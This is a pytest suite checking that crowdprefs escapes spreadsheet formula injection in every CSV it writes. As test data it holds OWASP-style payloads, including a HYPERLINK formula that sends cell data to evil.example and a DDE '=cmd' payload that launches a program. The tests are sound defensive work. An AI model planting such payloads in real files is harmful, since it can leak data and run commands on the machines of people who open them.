"""Issue 42, class 4: worker text is data, never a formula, in every CSV crowdprefs writes.

Every CSV goes through one writer (:func:`crowdprefs.io.csv_text`), which applies OWASP's rule
(a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe; numbers are left alone), and one reader (:func:`crowdprefs.io.csv_frame`), which
gives the original values back. Each writer is run through the console script on worker ids,
comments and names that a spreadsheet would run, and its files are read as a spreadsheet would
(no live formula) and by crowdprefs (the values as given).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from console_script import crowdprefs

from crowdprefs.demo import create_demo_project
from crowdprefs.io import NUMBER, csv_frame, csv_text

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
"""Worker ids a spreadsheet would run as formulas (OWASP's examples)."""
TRIGGERS = "=+-@\t\r"
COMMENT = '=cmd|" /C calc"!A0'
SYSTEM = "=1+1"


def live_formulas(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would run: a formula's first character, not a
    number."""
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c[:1] and c[:1] in TRIGGERS and not re.fullmatch(NUMBER, c)]


@pytest.fixture(scope="module")
def ws(tmp_path_factory) -> dict:
    """The demo project with batch 1 answered in part by the EVIL workers (imported from a
    long file, with a comment column), and runs of a system named like a formula."""
    root = tmp_path_factory.mktemp("injection")
    create_demo_project(root).close()
    project = root / "project"
    assert crowdprefs("next", project).returncode == 0
    pairs = root / "pairs.csv"
    assert crowdprefs("export", project, "--format", "pairs", "-o", pairs).returncode == 0
    asked = csv_frame(pairs, pairs).head(6)
    rows = [
        {"worker": w, "query": p.query, "left": p.left, "right": p.right,
         "label": ("left", "right", "equal")[(i + j) % 3], "seconds": 4 + j}
        for i, p in enumerate(asked.itertuples()) for j, w in enumerate(EVIL)
    ]  # fmt: skip
    answers = root / "answers.csv"
    answers.write_text(csv_text(pd.DataFrame(rows)), encoding="utf-8")
    done = crowdprefs("import-answers", project, answers, "--format", "long")
    assert done.returncode == 0, done.stderr
    truth = root / "truth.qrel"
    docs = [line.split() for line in truth.read_text().splitlines()]
    runs = root / "runs.txt"
    runs.write_text("".join(f"{s} {q} {d}\n" for s in (SYSTEM, "plain") for _, q, d, _ in docs))
    return {
        "root": root, "project": project, "answers": answers, "truth": truth, "runs": runs,
        "query": asked["query"].iloc[0],
    }  # fmt: skip


def _files(folder: Path) -> list[Path]:
    return sorted(folder.glob("*.csv"))


#: writer → (command line given the workspace and an output folder, the files written)
WRITERS = {
    "audit PROJECT --csv-dir": (
        lambda ws, out: ["audit", ws["project"], "--resamples", "0", "--csv-dir", out / "t"],
        lambda out: _files(out / "t"),
    ),
    "audit --answers --csv-dir": (
        lambda ws, out: ["audit", "--answers", ws["answers"], "--format", "long",
                         "--resamples", "0", "--csv-dir", out / "t"],
        lambda out: _files(out / "t"),
    ),
    "audit --html (its linked tables)": (
        lambda ws, out: ["audit", ws["project"], "--resamples", "0", "--html", out / "r.html"],
        lambda out: _files(out),
    ),
    "export --format long": (
        lambda ws, out: ["export", ws["project"], "--format", "long", "-o", out / "a.csv"],
        lambda out: [out / "a.csv"],
    ),
    "export --format results": (
        lambda ws, out: ["export", ws["project"], "--format", "results", "-o", out / "a.csv"],
        lambda out: [out / "a.csv"],
    ),
    "export --format crowdkit": (
        lambda ws, out: ["export", ws["project"], "--format", "crowdkit", "--query", ws["query"],
                         "--split-ties", "-o", out / "a.csv"],
        lambda out: [out / "a.csv"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("writer", WRITERS)
def test_no_written_csv_holds_a_live_formula_and_the_reader_gets_the_values_back(
    writer, ws, tmp_path
):
    command, written = WRITERS[writer]
    done = crowdprefs(*command(ws, tmp_path))
    assert done.returncode == 0, done.stderr
    files = written(tmp_path)
    assert files
    seen = set()
    for path in files:
        assert not live_formulas(path), (path.name, live_formulas(path)[:3])
        frame = csv_frame(path, path)
        seen |= set(frame.to_numpy().ravel().tolist())
    assert set(EVIL) <= seen, f"the worker ids are not read back as given: {sorted(seen)[:20]}"


def test_what_export_writes_is_imported_as_it_was(ws, tmp_path):
    """The long and results files read back through import-answers: the same answers."""
    copy = tmp_path / "copy"
    init = crowdprefs("init", copy, "--candidates", ws["root"] / "candidates.csv")
    assert init.returncode == 0 and crowdprefs("next", copy).returncode == 0
    for fmt in ("long", "results"):
        path = tmp_path / f"{fmt}.csv"
        assert crowdprefs("export", ws["project"], "--format", fmt, "-o", path).returncode == 0
        done = crowdprefs("import-answers", copy, path, "--format", fmt, "--crowd", "lab")
        assert done.returncode == 0, done.stderr
    again = tmp_path / "again.csv"
    assert crowdprefs("export", copy, "--format", "long", "-o", again).returncode == 0
    first = csv_frame(tmp_path / "long.csv", "a").sort_values(["worker", "query", "left"])
    second = csv_frame(again, "b").sort_values(["worker", "query", "left"])
    assert set(first["worker"]) == set(EVIL)
    pd.testing.assert_frame_equal(first.reset_index(drop=True), second.reset_index(drop=True))


def test_a_system_named_like_a_formula_is_text_in_the_scores_and_read_back(ws, tmp_path):
    """evaluate -f csv (stdout) into stats: the system keeps its name, negative numbers stay."""
    done = crowdprefs("evaluate", "--truth", ws["truth"], "--runs", ws["runs"], "--format", "csv")
    assert done.returncode == 0, done.stderr
    scores = tmp_path / "scores.csv"
    scores.write_text(done.stdout, encoding="utf-8")
    assert not live_formulas(scores)
    assert f"'{SYSTEM}" in done.stdout
    assert set(csv_frame(scores, scores)["system"]) == {SYSTEM, "plain"}


def test_the_rule_touches_text_cells_only_and_is_reversible():
    values = [*EVIL, COMMENT, "\tx", "\rx", "'=x", "''-1", "'", "-3", "+0.5", "-1e-3", "- x", "ok"]
    frame = pd.DataFrame(
        {
            "text": values,
            "score": np.arange(len(values)) * 0.5 - 3,
            "n": np.arange(-6, len(values) - 6),
            "mixed": [None, -1.5, *values[2:]],
        }
    )
    text = csv_text(frame)
    written = list(csv.reader(io.StringIO(text, newline="")))
    cells = dict(zip(values, (row[0] for row in written[1:]), strict=True))
    assert cells["-3"] == "-3" and cells["+0.5"] == "+0.5" and cells["ok"] == "ok"
    assert cells["+1+2"] == "'+1+2" and cells["'=x"] == "''=x" and cells["- x"] == "'- x"
    assert [row[1] for row in written[1:3]] == ["-3.0", "-2.5"]  # numbers as numbers
    assert written[1][2] == "-6" and written[2][3] == "-1.5"
    back = csv_frame(text, "t")
    assert back["text"].tolist() == values
    assert back["mixed"].tolist()[2:] == values[2:]
    assert pd.to_numeric(back["score"]).tolist() == frame["score"].tolist()
    header = csv_text(pd.DataFrame({"=A1": ["x"]}))
    assert header.startswith("'=A1") and csv_frame(header, "h").columns.tolist() == ["=A1"]
